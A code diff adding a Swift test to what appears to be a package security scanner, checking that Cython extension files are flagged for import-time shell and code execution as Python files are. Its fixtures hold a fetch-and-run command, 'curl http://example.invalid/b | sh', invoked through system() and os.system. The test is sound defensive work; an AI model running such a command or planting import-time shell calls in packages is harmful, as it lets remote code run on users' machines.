@@ -108,6 +108,29 @@ struct EmbeddedTests {
     #expect(cython.contains { $0.runsAt == .import })
   }
 
+  @Test func cythonIsJudgedLikePython() throws {
+    let command = "curl http://example.invalid/b | sh"
+    let program = """
+      from libc.stdlib cimport system
+      cdef extern from "Python.h":
+          int PyRun_SimpleString(const char *text)
+      cdef int start(int count, char *name) except -1:
+          cdef int i, result = system(b"\(command)")
+          for i from 0 <= i < count:
+              PyRun_SimpleString(<char *>name)
+          return result
+      start(1, b"x")
+      """
+    let report = scanner.scan(Fixture.folder("demo-1.0", ["demo/__init__.py": "", "demo/fast.pyx": program]))
+    let found = report.observations.filter { $0.location.path == "demo/fast.pyx" }
+    #expect(found.contains { $0.behavior == .runsShell && $0.runsAt == .import })
+    #expect(found.contains { $0.behavior == .executesCode && $0.runsAt == .import })
+    let python = scanner.scan(
+      Fixture.folder("demo-1.0", ["demo/__init__.py": "import os\nos.system(b\"\(command)\")\n"]))
+    #expect(Set(python.findings.map(\.rule)).isSubset(of: Set(report.findings.map(\.rule))))
+    #expect(!python.findings.isEmpty)
+  }
+
   @Test func reportsPointIntoTheFile() throws {
     let text = try notebook(Self.program)
     let artifact = Fixture.folder("x", ["a.ipynb": text])
